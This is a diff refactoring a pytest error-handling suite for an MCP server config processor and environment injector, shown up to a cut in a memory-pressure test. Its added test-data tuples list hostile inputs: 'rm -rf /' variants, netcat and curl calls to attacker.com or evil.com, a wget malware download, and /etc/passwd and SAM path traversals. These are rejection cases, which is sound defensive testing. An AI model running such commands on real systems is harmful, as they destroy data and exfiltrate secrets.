@@ -5,275 +5,297 @@ Tests error handling, edge cases, and system resilience under adverse conditions
 """
 
 import pytest
-import tempfile
+import errno
 import os
-import signal
-import threading
+import sys
 import time
-from pathlib import Path
-from unittest.mock import patch, MagicMock
+from typing import Any, Dict, Tuple
+from unittest.mock import patch
 import yaml
-import json
 import subprocess
+from concurrent.futures import ThreadPoolExecutor, as_completed
 
 from src.claude_config.mcp_processor import MCPProcessor
-from src.claude_config.composer import AgentComposer
-from src.claude_config.validator import ConfigValidator
 from src.claude_config.env_injector import EnvironmentInjector
 
+_Dumper = getattr(yaml, "CSafeDumper", yaml.SafeDumper)
+
+pytestmark = [pytest.mark.error_scenarios]
+
+
+def _deep_update(target: Dict[str, Any], updates: Dict[str, Any]) -> None:
+    """Merge ``updates`` into ``target``, recursing into nested dicts."""
+    for key, value in updates.items():
+        if isinstance(value, dict) and isinstance(target.get(key), dict):
+            _deep_update(target[key], value)
+        else:
+            target[key] = value
+
+
+def _mk_config(name: str, **over: Any) -> Dict[str, Any]:
+    """Return a fresh minimal MCP server config with ``over`` merged in."""
+    cfg = {
+        "name": name,
+        "display_name": name.replace("-", " ").title(),
+        "description": f"Test {name}",
+        "category": "development",
+        "server": {"command": "test", "args": []},
+        "security": {"trust_level": "trusted", "network_access": False},
+        "development": {"status": "stable"}
+    }
+    _deep_update(cfg, over)
+    return cfg
+
+
+# Corrupted file contents the loader must reject
+CORRUPTED_CASES = [
+    ("binary-corruption.yaml", b"\x00\x01\x02\x03\x04\x05"),  # Binary data
+    ("unicode-corruption.yaml", "name: test\n\x80\x81\x82"),  # Invalid UTF-8
+    ("partial-yaml.yaml", "name: test\ndisplay_name: "),      # Incomplete YAML
+    ("mixed-encoding.yaml", "name: test\ndisplay_name: caf\xe9"),  # Mixed encoding
+]
+
+# Configs with problematic Unicode the loader must round-trip
+UNICODE_CASES = [
+    ("surrogate-pairs.yaml", _mk_config(
+        "unicode-test-1",
+        display_name="Test \ud800\udc00",  # Valid surrogate pair
+        description="Unicode test"
+    )),
+    ("emoji-heavy.yaml", _mk_config(
+        "unicode-test-2",
+        display_name="Test 🔥💻🚀⚡🎯🌟💡🔧🎉🏆",
+        description="Emoji heavy description 😀😃😄😁😆😅😂🤣"
+    ))
+]
+
+# Script injection attempts placed in server args and env commands
+INJECTION_ATTEMPTS: Tuple[str, ...] = (
+    "'; rm -rf /; echo '",
+    "$(rm -rf /)",
+    "`rm -rf /`",
+    "${IFS}rm${IFS}-rf${IFS}/",
+    "| nc attacker.com 4444",
+    "&& curl attacker.com/steal",
+    "; wget -O /tmp/evil http://evil.com/malware",
+    "' OR '1'='1",
+    "<script>alert('xss')</script>",
+    "../../../etc/passwd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
+)
+
+# File paths the environment injector must refuse to read
+PATH_TRAVERSAL_ATTEMPTS: Tuple[str, ...] = (
+    "../../../etc/passwd",
+    "..\\..\\..\\windows\\system32\\config\\sam",
+    "/etc/passwd",
+    "C:\\Windows\\System32\\config\\SAM",
+    "....//....//....//etc//passwd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd",
+    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"
+)
+
+# Environment commands the injector must refuse to run
+COMMAND_INJECTION_ATTEMPTS: Tuple[str, ...] = (
+    "whoami; rm -rf /",
+    "whoami && cat /etc/passwd",
+    "whoami || wget evil.com/script",
+    "whoami | nc attacker.com 4444",
+    "whoami > /dev/null; curl evil.com",
+    "whoami `cat /etc/passwd`",
+    "whoami $(curl evil.com/cmd)",
+    "eval(\"import os; os.system('rm -rf /')\")",
+    "/bin/bash -c 'rm -rf /'",
+    "python -c \"__import__('os').system('rm -rf /')\""
+)
+
+
+# Shared config rewritten by every race condition thread
+RACE_CONFIG = _mk_config("race-condition-server")
+
+
+@pytest.fixture
+def mcp_dir(tmp_path):
+    """Create an empty ``mcp_servers`` directory under a fresh data dir."""
+    mcp_dir = tmp_path / "mcp_servers"
+    mcp_dir.mkdir()
+    return mcp_dir
+
+
+@pytest.fixture
+def processor(mcp_dir):
+    """MCPProcessor rooted at the data dir holding ``mcp_dir``."""
+    return MCPProcessor(mcp_dir.parent)
+
+
+@pytest.fixture(scope="class")
+def injector():
+    """EnvironmentInjector shared by the read-only validation tests of a class."""
+    return EnvironmentInjector()
+
 
 class TestFileSystemErrors:
     """Test handling of file system related errors."""
 
-    def test_permission_denied_on_read(self):
+    def test_permission_denied_on_read(self, mcp_dir, processor):
         """Test handling when file permissions deny read access."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+        # Create a file and then remove read permissions
+        config_file = mcp_dir / "permission-test.yaml"
+        config = _mk_config("permission-test")
 
-            # Create a file and then remove read permissions
-            config_file = mcp_dir / "permission-test.yaml"
-            config = {
-                "name": "permission-test",
-                "display_name": "Permission Test",
-                "description": "Test permission handling",
-                "category": "development",
-                "server": {"command": "test", "args": []},
-                "security": {"trust_level": "trusted", "network_access": False},
-                "development": {"status": "stable"}
-            }
-            
-            with open(config_file, 'w') as f:
-                yaml.dump(config, f)
+        with open(config_file, 'w') as f:
+            yaml.dump(config, f, Dumper=_Dumper)
 
-            # Remove read permissions
-            config_file.chmod(0o000)
-            
-            try:
-                processor = MCPProcessor(data_dir)
-                
-                with pytest.raises((PermissionError, OSError)):
-                    processor.load_mcp_server("permission-test")
-                    
-            finally:
-                # Restore permissions for cleanup
-                config_file.chmod(0o644)
+        # Remove read permissions
+        config_file.chmod(0o000)
+
+        with pytest.raises((PermissionError, OSError)):
+            processor.load_mcp_server("permission-test")
 
-    def test_disk_full_simulation(self):
+    def test_disk_full_simulation(self, tmp_path, monkeypatch):
         """Test handling when disk space is exhausted."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            
-            # Mock OSError for disk full
-            with patch('builtins.open', side_effect=OSError("No space left on device")):
-                processor = MCPProcessor(data_dir)
-                
-                with pytest.raises(OSError, match="No space left on device"):
-                    processor.load_mcp_server("nonexistent")
-
-    def test_corrupted_file_handling(self):
+        def _raise(*args, **kwargs):
+            raise OSError("No space left on device")
+
+        processor = MCPProcessor(tmp_path)
+
+        # Scope the patched open to the load so pytest's own I/O is untouched
+        with monkeypatch.context() as m:
+            m.setattr("builtins.open", _raise)
+            with pytest.raises(OSError, match="No space left on device"):
+                processor.load_mcp_server("nonexistent")
+
+    @pytest.mark.parametrize(
+        "filename,content", CORRUPTED_CASES, ids=[case[0] for case in CORRUPTED_CASES]
+    )
+    def test_corrupted_file_handling(self, mcp_dir, processor, filename, content):
         """Test handling of corrupted files."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+        file_path = mcp_dir / filename
+        if isinstance(content, bytes):
+            with open(file_path, 'wb') as f:
+                f.write(content)
+        else:
+            with open(file_path, 'w', encoding='latin1') as f:
+                f.write(content)
+
+        server_name = filename.replace('.yaml', '')
+
+        # Should handle corruption gracefully
+        with pytest.raises((UnicodeDecodeError, yaml.YAMLError, ValueError)):
+            processor.load_mcp_server(server_name)
 
-            # Create corrupted files
-            test_cases = [
-                ("binary-corruption.yaml", b"\x00\x01\x02\x03\x04\x05"),  # Binary data
-                ("unicode-corruption.yaml", "name: test\n\x80\x81\x82"),  # Invalid UTF-8
-                ("partial-yaml.yaml", "name: test\ndisplay_name: "),      # Incomplete YAML
-                ("mixed-encoding.yaml", "name: test\ndisplay_name: caf\xe9"),  # Mixed encoding
-            ]
-
-            for filename, content in test_cases:
-                file_path = mcp_dir / filename
-                if isinstance(content, bytes):
-                    with open(file_path, 'wb') as f:
-                        f.write(content)
-                else:
-                    with open(file_path, 'w', encoding='latin1') as f:
-                        f.write(content)
-
-                processor = MCPProcessor(data_dir)
-                server_name = filename.replace('.yaml', '')
-                
-                # Should handle corruption gracefully
-                with pytest.raises((UnicodeDecodeError, yaml.YAMLError, ValueError)):
-                    processor.load_mcp_server(server_name)
-
-    def test_missing_directories(self):
+    def test_missing_directories(self, tmp_path):
         """Test handling when expected directories don't exist."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            # Don't create mcp_servers directory
-            
-            processor = MCPProcessor(data_dir)
-            
-            # Should handle missing directory gracefully
-            servers = processor.list_available_servers()
-            assert servers == []
-            
-            all_servers = processor.load_all_mcp_servers()
-            assert all_servers == {}
+        data_dir = tmp_path
+        # Don't create mcp_servers directory
+
+        processor = MCPProcessor(data_dir)
 
-    def test_circular_symlinks(self):
+        # Should handle missing directory gracefully
+        servers = processor.list_available_servers()
+        assert servers == []
+
+        all_servers = processor.load_all_mcp_servers()
+        assert all_servers == {}
+
+    def test_circular_symlinks(self, mcp_dir, processor):
         """Test handling of circular symlinks."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+        # Create circular symlinks
+        link1 = mcp_dir / "link1.yaml"
+        link2 = mcp_dir / "link2.yaml"
 
-            # Create circular symlinks
-            link1 = mcp_dir / "link1.yaml"
-            link2 = mcp_dir / "link2.yaml"
-            
-            link1.symlink_to(link2)
-            link2.symlink_to(link1)
+        link1.symlink_to(link2)
+        link2.symlink_to(link1)
 
-            processor = MCPProcessor(data_dir)
-            
-            # Should handle circular symlinks without infinite loops
-            with pytest.raises((OSError, RecursionError)):
-                processor.load_mcp_server("link1")
+        # Should fail fast with the kernel's ELOOP, not loop forever
+        with pytest.raises(OSError) as excinfo:
+            processor.load_mcp_server("link1")
+        assert excinfo.value.errno == errno.ELOOP
 
 
 class TestNetworkAndIOErrors:
     """Test handling of network and I/O related errors."""
 
-    def test_network_timeout_in_environment_resolution(self):
+    def test_network_timeout_in_environment_resolution(self, mcp_dir, processor):
         """Test network timeouts during environment variable resolution."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
-
-            config = {
-                "name": "network-timeout-server",
-                "display_name": "Network Timeout Server",
-                "description": "Server that causes network timeouts",
-                "category": "development",
-                "server": {"command": "test", "args": []},
-                "environment": {
-                    "variables": {
-                        "NETWORK_VAR": {
-                            "source": "command",
-                            "command": "curl --max-time 1 httpbin.org/delay/10",
-                            "required": True
-                        }
+        config = _mk_config(
+            "network-timeout-server",
+            environment={
+                "variables": {
+                    "NETWORK_VAR": {
+                        "source": "command",
+                        "command": "echo mocked",  # Never run; subprocess is mocked
+                        "required": True
                     }
-                },
-                "security": {"trust_level": "trusted", "network_access": True},
-                "development": {"status": "experimental"}
-            }
-            
-            with open(mcp_dir / "network-timeout-server.yaml", 'w') as f:
-                yaml.dump(config, f)
-
-            processor = MCPProcessor(data_dir)
-            
-            # Mock subprocess to simulate timeout
-            with patch('subprocess.run', side_effect=subprocess.TimeoutExpired("curl", 1)):
-                result = processor.validate_mcp_server("network-timeout-server")
-                
-                # Should handle timeout gracefully
-                assert not result.is_valid
-                assert any("timeout" in error.lower() for error in result.errors)
-
-    def test_dns_resolution_failures(self):
-        """Test DNS resolution failures in environment commands."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+                }
+            },
+            security={"network_access": True},
+            development={"status": "experimental"}
+        )
 
-            config = {
-                "name": "dns-failure-server",
-                "display_name": "DNS Failure Server", 
-                "description": "Server with DNS resolution issues",
-                "category": "development",
-                "server": {"command": "test", "args": []},
-                "environment": {
-                    "variables": {
-                        "DNS_VAR": {
-                            "source": "command",
-                            "command": "nslookup nonexistent.invalid.domain.xyz",
-                            "required": True
-                        }
-                    }
-                },
-                "security": {"trust_level": "trusted", "network_access": True},
-                "development": {"status": "experimental"}
-            }
-            
-            with open(mcp_dir / "dns-failure-server.yaml", 'w') as f:
-                yaml.dump(config, f)
+        with open(mcp_dir / "network-timeout-server.yaml", 'w') as f:
+            yaml.dump(config, f, Dumper=_Dumper)
 
-            processor = MCPProcessor(data_dir)
-            
-            # Should handle DNS failures gracefully
-            result = processor.validate_mcp_server("dns-failure-server")
-            assert not result.is_valid or len(result.errors) > 0
+        # Mock subprocess to simulate timeout
+        with patch('subprocess.run', side_effect=subprocess.TimeoutExpired("echo", 1)):
+            result = processor.validate_mcp_server("network-timeout-server")
 
-    def test_interrupted_operations(self):
-        """Test handling of interrupted operations."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+            # Should handle timeout gracefully
+            assert not result.is_valid
+            assert any("timeout" in error.lower() for error in result.errors)
 
-            # Create a large configuration
-            config = {
-                "name": "interrupt-test-server",
-                "display_name": "Interrupt Test Server",
-                "description": "Server for testing interruption handling",
-                "category": "development",
-                "server": {"command": "test", "args": []},
-                "environment": {
-                    "variables": {
-                        f"VAR_{i}": f"value_{i}" for i in range(1000)
+    def test_dns_resolution_failures(self, mcp_dir, processor):
+        """Test DNS resolution failures in environment commands."""
+        config = _mk_config(
+            "dns-failure-server",
+            environment={
+                "variables": {
+                    "DNS_VAR": {
+                        "source": "command",
+                        "command": "nslookup nonexistent.invalid.domain.xyz",
+                        "required": True
                     }
-                },
-                "security": {"trust_level": "trusted", "network_access": False},
-                "development": {"status": "stable"}
-            }
-            
-            with open(mcp_dir / "interrupt-test-server.yaml", 'w') as f:
-                yaml.dump(config, f)
+                }
+            },
+            security={"network_access": True},
+            development={"status": "experimental"}
+        )
+
+        with open(mcp_dir / "dns-failure-server.yaml", 'w') as f:
+            yaml.dump(config, f, Dumper=_Dumper)
+
+        # Resolver failure is mocked so no DNS traffic leaves the runner
+        nxdomain = subprocess.CompletedProcess(
+            args=[], returncode=1, stdout='',
+            stderr="** server can't find nonexistent.invalid.domain.xyz: NXDOMAIN"
+        )
+
+        # Should handle DNS failures gracefully
+        with patch('subprocess.run', return_value=nxdomain):
+            result = processor.validate_mcp_server("dns-failure-server")
+        assert not result.is_valid or len(result.errors) > 0
 
-            def interrupt_after_delay():
-                time.sleep(0.1)  # Short delay
-                os.kill(os.getpid(), signal.SIGINT)
+    def test_interrupted_operations(self, mcp_dir, processor):
+        """Test handling of interrupted operations."""
+        # One server on disk so the real run reaches the per-server load
+        with open(mcp_dir / "interrupt-test-server.yaml", 'w') as f:
+            yaml.dump(_mk_config("interrupt-test-server"), f, Dumper=_Dumper)
 
-            processor = MCPProcessor(data_dir)
-            
-            # Start interrupt thread
-            interrupt_thread = threading.Thread(target=interrupt_after_delay)
-            interrupt_thread.start()
-            
-            try:
-                # This should be interrupted
-                with pytest.raises(KeyboardInterrupt):
-                    time.sleep(1)  # Simulate long operation
-                    processor.process_all_for_claude_code()
-                    
-            finally:
-                interrupt_thread.join()
+        # Interrupt the inner load; the real processing loop must not swallow it
+        with patch.object(processor, 'load_mcp_server', side_effect=KeyboardInterrupt):
+            with pytest.raises(KeyboardInterrupt):
+                processor.process_all_for_claude_code()
 
 
 class TestDataIntegrityErrors:
     """Test data integrity and validation errors."""
 
-    def test_yaml_bomb_protection(self):
+    @pytest.mark.resource_hog
+    def test_yaml_bomb_protection(self, mcp_dir, processor):
         """Test protection against YAML bombs (exponential expansion)."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
-
-            # Create YAML with potential for exponential expansion
-            yaml_bomb = """
+        # Create YAML with potential for exponential expansion
+        yaml_bomb = """
 name: yaml-bomb-server
 display_name: &anchor "YAML Bomb Server"
 description: *anchor
@@ -292,317 +314,201 @@ security:
 development:
   status: experimental
 """
-            
-            with open(mcp_dir / "yaml-bomb-server.yaml", 'w') as f:
-                f.write(yaml_bomb)
 
-            processor = MCPProcessor(data_dir)
-            
-            # Should handle YAML bombs safely (may timeout or raise error)
-            try:
-                server_def = processor.load_mcp_server("yaml-bomb-server")
-                # If it loads, it should be reasonable size
-                assert len(str(server_def)) < 10 * 1024 * 1024  # < 10MB
-            except (yaml.YAMLError, RecursionError, MemoryError):
-                # These are acceptable responses to YAML bombs
-                pass
-
-    def test_deeply_nested_structures(self):
-        """Test handling of deeply nested data structures."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+        with open(mcp_dir / "yaml-bomb-server.yaml", 'w') as f:
+            f.write(yaml_bomb)
 
-            # Create deeply nested structure
-            nested_dict = {"level": 0}
-            current = nested_dict
-            for i in range(100):  # 100 levels deep
-                current["next"] = {"level": i + 1}
-                current = current["next"]
-
-            config = {
-                "name": "deep-nesting-server",
-                "display_name": "Deep Nesting Server",
-                "description": "Server with deeply nested structure",
-                "category": "development", 
-                "server": {"command": "test", "args": []},
-                "metadata": {
-                    "nested_data": nested_dict
-                },
-                "security": {"trust_level": "trusted", "network_access": False},
-                "development": {"status": "experimental"}
-            }
-            
-            with open(mcp_dir / "deep-nesting-server.yaml", 'w') as f:
-                yaml.dump(config, f)
+        # Should handle YAML bombs safely (may timeout or raise error)
+        try:
+            server_def = processor.load_mcp_server("yaml-bomb-server")
+            # If it loads, it should be reasonable size
+            assert len(str(server_def)) < 10 * 1024 * 1024  # < 10MB
+        except (yaml.YAMLError, RecursionError, MemoryError):
+            # These are acceptable responses to YAML bombs
+            pass
 
-            processor = MCPProcessor(data_dir)
-            
-            # Should handle deep nesting without stack overflow
-            try:
-                server_def = processor.load_mcp_server("deep-nesting-server")
-                assert server_def.name == "deep-nesting-server"
-            except RecursionError:
-                # Acceptable if recursion limit hit
-                pass
+    def test_deeply_nested_structures(self, mcp_dir, processor):
+        """Test handling of deeply nested data structures."""
+        # Create deeply nested structure
+        nested_dict = {"level": 0}
+        current = nested_dict
+        for i in range(100):  # 100 levels deep
+            current["next"] = {"level": i + 1}
+            current = current["next"]
+
+        config = _mk_config(
+            "deep-nesting-server",
+            metadata={"nested_data": nested_dict},
+            development={"status": "experimental"}
+        )
+
+        with open(mcp_dir / "deep-nesting-server.yaml", 'w') as f:
+            yaml.dump(config, f, Dumper=_Dumper)
+
+        # Should handle deep nesting without stack overflow
+        try:
+            server_def = processor.load_mcp_server("deep-nesting-server")
+            assert server_def.name == "deep-nesting-server"
+        except RecursionError:
+            # Acceptable if recursion limit hit
+            pass
 
-    def test_invalid_unicode_handling(self):
+    @pytest.mark.parametrize(
+        "filename,config", UNICODE_CASES, ids=[case[0] for case in UNICODE_CASES]
+    )
+    def test_invalid_unicode_handling(self, mcp_dir, processor, filename, config):
         """Test handling of invalid Unicode sequences."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+        with open(mcp_dir / filename, 'w', encoding='utf-8') as f:
+            yaml.dump(config, f, Dumper=_Dumper, allow_unicode=True)
 
-            # Test cases with problematic Unicode
-            test_cases = [
-                ("surrogate-pairs.yaml", {
-                    "name": "unicode-test-1",
-                    "display_name": "Test \ud800\udc00",  # Valid surrogate pair
-                    "description": "Unicode test",
-                    "category": "development",
-                    "server": {"command": "test", "args": []},
-                    "security": {"trust_level": "trusted", "network_access": False},
-                    "development": {"status": "stable"}
-                }),
-                ("emoji-heavy.yaml", {
-                    "name": "unicode-test-2", 
-                    "display_name": "Test 🔥💻🚀⚡🎯🌟💡🔧🎉🏆",
-                    "description": "Emoji heavy description 😀😃😄😁😆😅😂🤣",
-                    "category": "development",
-                    "server": {"command": "test", "args": []},
-                    "security": {"trust_level": "trusted", "network_access": False},
-                    "development": {"status": "stable"}
-                })
-            ]
-
-            for filename, config in test_cases:
-                with open(mcp_dir / filename, 'w', encoding='utf-8') as f:
-                    yaml.dump(config, f, allow_unicode=True)
-
-                processor = MCPProcessor(data_dir)
-                server_name = filename.replace('.yaml', '').replace('-', '_')
-                
-                # Should handle Unicode correctly
-                server_def = processor.load_mcp_server(config["name"])
-                assert server_def.name == config["name"]
-
-    def test_extremely_large_values(self):
+        # Should handle Unicode correctly
+        server_def = processor.load_mcp_server(config["name"])
+        assert server_def.name == config["name"]
+
+    def test_extremely_large_values(self, mcp_dir, processor):
         """Test handling of extremely large configuration values."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers" 
-            mcp_dir.mkdir()
+        # Create config with very large string values
+        large_string = "x" * (64 * 1024)  # 64KB string, well past typical values
 
-            # Create config with very large string values
-            large_string = "x" * (1024 * 1024)  # 1MB string
-            
-            config = {
-                "name": "large-values-server",
-                "display_name": "Large Values Server",
-                "description": large_string,  # Very large description
-                "category": "development",
-                "server": {"command": "test", "args": []},
-                "environment": {
-                    "variables": {
-                        "LARGE_VAR": large_string
-                    }
-                },
-                "security": {"trust_level": "trusted", "network_access": False},
-                "development": {"status": "experimental"}
-            }
-            
-            with open(mcp_dir / "large-values-server.yaml", 'w') as f:
-                yaml.dump(config, f)
+        config = _mk_config(
+            "large-values-server",
+            description=large_string,  # Very large description
+            environment={"variables": {"LARGE_VAR": large_string}},
+            development={"status": "experimental"}
+        )
 
-            processor = MCPProcessor(data_dir)
-            
-            # Should handle large values (may be slow but shouldn't crash)
-            server_def = processor.load_mcp_server("large-values-server")
-            assert server_def.name == "large-values-server"
-            assert len(server_def.description) == 1024 * 1024
+        with open(mcp_dir / "large-values-server.yaml", 'w') as f:
+            yaml.dump(config, f, Dumper=_Dumper)
+
+        # Should handle large values (may be slow but shouldn't crash)
+        server_def = processor.load_mcp_server("large-values-server")
+        assert server_def.name == "large-values-server"
+        assert len(server_def.description) == 64 * 1024
 
 
 class TestConcurrencyErrors:
     """Test error handling in concurrent scenarios."""
 
-    def test_race_condition_in_file_access(self):
-        """Test race conditions when multiple processes access same files."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
+    def test_race_condition_in_file_access(self, mcp_dir):
+        """Test race conditions when multiple threads access same files."""
+        data_dir = mcp_dir.parent
+        config_file = mcp_dir / "race-condition-server.yaml"
+        with open(config_file, 'w') as f:
+            yaml.dump(RACE_CONFIG, f, Dumper=_Dumper)
 
-            config = {
-                "name": "race-condition-server",
-                "display_name": "Race Condition Server",
-                "description": "Server for testing race conditions",
-                "category": "development",
-                "server": {"command": "test", "args": []},
-                "security": {"trust_level": "trusted", "network_access": False},
-                "development": {"status": "stable"}
-            }
-            
-            config_file = mcp_dir / "race-condition-server.yaml"
+        def load_and_modify():
+            """Load config and modify file simultaneously."""
+            processor = MCPProcessor(data_dir)
+
+            # Load server
+            server_def = processor.load_mcp_server("race-condition-server")
+
+            # Modify file while other threads are loading
+            modified_config = dict(RACE_CONFIG, description=f"Modified at {time.time()}")
             with open(config_file, 'w') as f:
-                yaml.dump(config, f)
-
-            def load_and_modify():
-                """Load config and modify file simultaneously."""
-                processor = MCPProcessor(data_dir)
-                
-                # Load server
-                server_def = processor.load_mcp_server("race-condition-server")
-                
-                # Modify file while other threads are loading
-                modified_config = config.copy()
-                modified_config["description"] = f"Modified at {time.time()}"
-                
-                with open(config_file, 'w') as f:
-                    yaml.dump(modified_config, f)
-                    
-                return server_def
+                yaml.dump(modified_config, f, Dumper=_Dumper)
 
-            # Run multiple threads that load and modify simultaneously
-            import concurrent.futures
-            
-            with concurrent.futures.ThreadPoolExecutor(max_workers=5) as executor:
-                futures = [executor.submit(load_and_modify) for _ in range(10)]
+            return server_def
+
+        # Run multiple threads that load and modify simultaneously
+        with ThreadPoolExecutor(max_workers=5) as executor:
+            futures = [executor.submit(load_and_modify) for _ in range(10)]
+            results = []
+
+            for future in as_completed(futures):
+                try:
+                    results.append(future.result())
+                except Exception as e:
+                    # Some operations may fail due to race conditions
+                    results.append(e)
+
+        # At least some operations should succeed
+        successful_results = [r for r in results if not isinstance(r, Exception)]
+        assert len(successful_results) >= 5, "Too many operations failed due to race conditions"
+
+    @pytest.mark.resource_hog
+    @pytest.mark.timeout(30, method="thread")
+    def test_deadlock_prevention(self, tmp_path):
+        """Test that system doesn't deadlock under concurrent load."""
+        data_dir = tmp_path
+        mcp_dir = data_dir / "mcp_servers"
+        mcp_dir.mkdir()
+
+        # Render all server configs first, then write each with one call
+        rendered = []
+        for i in range(10):
+            config = _mk_config(
+                f"deadlock-test-server-{i}",
+                environment={
+                    "variables": {
+                        "CROSS_REF": {
+                            "source": "env",
+                            "variable": f"DEADLOCK_VAR_{(i + 1) % 10}",  # Circular reference
+                            "required": True
+                        }
+                    }
+                }
+            )
+
+            rendered.append((
+                mcp_dir / f"deadlock-test-server-{i}.yaml",
+                yaml.dump(config, Dumper=_Dumper).encode()
+            ))
+
+        for path, payload in rendered:
+            path.write_bytes(payload)
+
+        def process_with_locks():
+            """Process servers with potential for deadlock."""
+            processor = MCPProcessor(data_dir)
+
+            # Set up environment
+            env_vars = {f"DEADLOCK_VAR_{i}": f"value_{i}" for i in range(10)}
+            with patch.dict(os.environ, env_vars):
+                # Process multiple servers that reference each other
                 results = []
-                
-                for future in concurrent.futures.as_completed(futures):
+                for i in range(10):
                     try:
-                        result = future.result()
-                        results.append(result)
+                        server_def = processor.load_mcp_server(f"deadlock-test-server-{i}")
+                        claude_config = processor.process_for_claude_code(server_def)
+                        results.append(claude_config)
                     except Exception as e:
-                        # Some operations may fail due to race conditions
                         results.append(e)
+                return results
 
-            # At least some operations should succeed
-            successful_results = [r for r in results if not isinstance(r, Exception)]
-            assert len(successful_results) >= 5, "Too many operations failed due to race conditions"
+        # pytest-timeout fails the test if this deadlocks
+        results = process_with_locks()
 
-    def test_deadlock_prevention(self):
-        """Test that system doesn't deadlock under concurrent load."""
-        with tempfile.TemporaryDirectory() as temp_dir:
-            data_dir = Path(temp_dir)
-            mcp_dir = data_dir / "mcp_servers"
-            mcp_dir.mkdir()
-
-            # Create multiple server configs
-            for i in range(10):
-                config = {
-                    "name": f"deadlock-test-server-{i}",
-                    "display_name": f"Deadlock Test Server {i}",
-                    "description": "Server for deadlock testing",
-                    "category": "development",
-                    "server": {"command": "test", "args": []},
-                    "environment": {
-                        "variables": {
-                            "CROSS_REF": {
-                                "source": "env",
-                                "variable": f"DEADLOCK_VAR_{(i + 1) % 10}",  # Circular reference
-                                "required": True
-                            }
-                        }
-                    },
-                    "security": {"trust_level": "trusted", "network_access": False},
-                    "development": {"status": "stable"}
-                }
-                
-                with open(mcp_dir / f"deadlock-test-server-{i}.yaml", 'w') as f:
-                    yaml.dump(config, f)
-
-            def process_with_locks():
-                """Process servers with potential for deadlock."""
-                processor = MCPProcessor(data_dir)
-                
-                # Set up environment
-                env_vars = {f"DEADLOCK_VAR_{i}": f"value_{i}" for i in range(10)}
-                with patch.dict(os.environ, env_vars):
-                    # Process multiple servers that reference each other
-                    results = []
-                    for i in range(10):
-                        try:
-                            server_def = processor.load_mcp_server(f"deadlock-test-server-{i}")
-                            claude_config = processor.process_for_claude_code(server_def)
-                            results.append(claude_config)
-                        except Exception as e:
-                            results.append(e)
-                    return results
-
-            # Use timeout to detect deadlocks
-            import signal
-            
-            def timeout_handler(signum, frame):
-                raise TimeoutError("Operation timed out - possible deadlock")
-                
-            signal.signal(signal.SIGALRM, timeout_handler)
-            signal.alarm(30)  # 30 second timeout
-            
-            try:
-                results = process_with_locks()
-                signal.alarm(0)  # Cancel timeout
-                
-                # Should complete without deadlock
-                assert len(results) == 10
-                
-            except TimeoutError:
-                pytest.fail("Operation timed out - possible deadlock detected")
-            finally:
-                signal.alarm(0)  # Ensure timeout is cancelled
+        # Should complete without deadlock
+        assert len(results) == 10
 
 
 class TestResourceExhaustionErrors:
     """Test handling of resource exhaustion scenarios."""
 
-    def test_memory_pressure_handling(self):
+    @pytest.mark.resource_hog
+    @pytest.mark.skipif(sys.platform == "win32", reason="RSS behaviour differs on Windows")
+    def test_memory_pressure_handling(self, mcp_dir, processor):
         """Test behavior under memory pressure."""
-        # Simulate memory pressure by creating large objects
-        large_objects = []
-        
+        config = _mk_config("memory-pressure-server")
+
+        with open(mcp_dir / "memory-pressure-server.yaml", 'w') as f:
+            yaml.dump(config, f, Dumper=_Dumper)
+
+        # Hold a fixed ~100MB allocation while the loader runs
+        large_object = bytearray(100 * 1024 * 1024)
+
         try:
-            # Allocate memory until we have pressure
-            for i in range(100):
-                large_objects.append(bytearray(10 * 1024 * 1024))  # 10MB each
-                
-                # Test normal operation under memory pressure
-                with tempfile.TemporaryDirectory() as temp_dir:
-                    data_dir = Path(temp_dir)
-                    mcp_dir = data_dir / "mcp_servers"
-                    mcp_dir.mkdir()
-
-                    config = {
-                        "name": "memory-pressure-server",
-                        "display_name": "Memory Pressure Server",
-                        "description": "Server under memory pressure",
-                        "category": "development",
-                        "server": {"command": "test", "args": []},
-                        "security": {"trust_level": "trusted", "network_access": False},
-                        "development": {"status": "stable"}
-                    }
-                    
-                    with open(mcp_dir / "memory-pressure-server.yaml", 'w') as f:
-                        yaml.dump(config, f)
+            # Should still work under memory pressure
+            server_def = processor.load_mcp_server("memory-pressure-server")
+            assert server_def.name == "memory-pressure-server"
 
-                    processor = MCPProcessor(data_dir)
-                    
-                    # Should still work under memory pressure
-                    server_def = processor.load_mcp_server("memory-pressure-server")
-                    assert server_def.name == "memory-pressure-server"
-                    
-                    # Stop when we've tested under pressure
